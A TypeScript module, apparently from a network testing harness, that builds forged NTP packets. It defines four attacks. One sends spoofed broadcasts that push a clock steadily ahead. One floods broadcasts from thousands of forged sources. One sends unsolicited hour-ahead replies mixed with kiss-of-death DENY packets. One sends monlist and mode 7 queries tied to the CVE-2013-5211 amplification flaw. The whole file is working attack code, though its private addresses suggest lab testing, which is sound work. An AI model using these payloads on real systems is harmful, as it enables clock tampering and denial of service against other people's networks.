import { createSocket } from 'node:dgram'
import { setTimeout as delay } from 'node:timers/promises'

import { Forger } from '../network/forge.ts'
import { type Attack, repeat } from './attack.ts'
import { forgedSource } from './udp-attacks.ts'

/** Seconds from 1900, where the time of NTP begins, to 1970. */
const UNIX_EPOCH = 2_208_988_800n
const BROADCAST = 0x25
const REPLY = 0x24
const REQUEST = 0x23

/** A packet of RFC 5905, section 7.3, of a server of stratum 2 whose clock is ahead by so many seconds. */
function ntpPacket(first: number, aheadSeconds: number, poll = 6): Uint8Array {
  const bytes = new Uint8Array(48)
  const view = new DataView(bytes.buffer)
  const millis = BigInt(Math.round(Date.now() + aheadSeconds * 1_000))
  const at = (((millis << 32n) / 1_000n) & 0xffff_ffff_ffff_ffffn) + (UNIX_EPOCH << 32n)
  bytes.set([first, 2, poll, 0xec])
  view.setUint32(8, 66)
  bytes.set([192, 0, 2, 7], 12)
  view.setBigUint64(16, at - (60n << 32n))
  view.setBigUint64(40, at)
  return bytes
}

/** What a client asks (RFC 5905, mode 3). */
export const ntpRequest = (): Uint8Array => ntpPacket(REQUEST, 0)

const to = (port: number) => ({ address: '224.0.1.1', port })

/** Broadcasts with the address of a real server (10.77.0.2), each 0.9 s further ahead than the one before. */
const ratchet: Attack = async ({ port }, signal) => {
  using forger = new Forger('IPv4')
  const from = { address: '10.77.0.2', port: 123 }
  return await repeat(signal, 5, (number) =>
    forger.send({ from, to: to(port), payload: ntpPacket(BROADCAST, 0.9 * (number + 1)) }),
  )
}

/** Two broadcasts of each of many sources that say they send every 17 minutes (poll 10). */
const manyBroadcasters: Attack = async ({ port }, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 1_000, (number) => {
    const { address } = forgedSource((number >> 1) % 5_000)
    forger.send({
      from: { address, port: 123 },
      to: to(port),
      payload: ntpPacket(BROADCAST, 0, 10),
    })
  })
}

/** Answers to what was never asked, of 10.77.0.2: a clock an hour ahead, and kisses of death (RFC 5905, section 7.4). */
const unaskedReplies: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 500, (number) => {
    const payload = ntpPacket(REPLY, 3_600)
    if (number % 2 === 0)
      payload.set([0xe4, 0, 6, 0xec, 0, 0, 0, 0, 0, 0, 0, 0, 0x44, 0x45, 0x4e, 0x59])
    forger.send({ from: { address: '10.77.0.2', port: 123 }, to: target, payload })
  })
}

/** Modes 6 and 7, by which ntpd gives hundreds of times what was asked (CVE-2013-5211); answers to it are counted. */
const controlMessages: Attack = async (target, signal) => {
  const socket = createSocket('udp4')
  let answered = 0
  socket.on('message', () => {
    answered += 1
  })
  socket.bind(0)
  const counts = await repeat(signal, 500, (number) => {
    const monlist = Uint8Array.of(0x17, 0, 3, 0x2a, 0, 0, 0, 0)
    const readVariables = Uint8Array.of(0x16, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0)
    socket.send(number % 2 === 0 ? monlist : readVariables, target.port, target.address)
  })
  await delay(500)
  socket.close()
  return { ...counts, answered }
}

export const ntpAttacks: Readonly<Record<string, Attack>> = {
  ratchet,
  manyBroadcasters,
  unaskedReplies,
  controlMessages,
}
